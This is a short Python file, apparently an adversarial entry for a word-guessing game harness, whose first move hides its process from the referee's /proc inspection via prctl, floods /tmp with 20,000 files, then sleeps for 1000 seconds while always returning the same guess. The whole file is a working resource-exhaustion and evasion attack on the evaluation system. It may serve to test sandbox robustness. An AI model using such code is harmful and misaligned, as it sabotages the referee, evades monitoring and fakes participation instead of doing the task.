"""Makes files without end, in a process whose directory in /proc the referee may not read."""

import ctypes
import os
import time


class Attack:
    def first_move(self):
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        for at in range(20000):
            os.close(os.open(f"/tmp/{at}", os.O_CREAT))
        time.sleep(1000)
        return "aback", 0

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
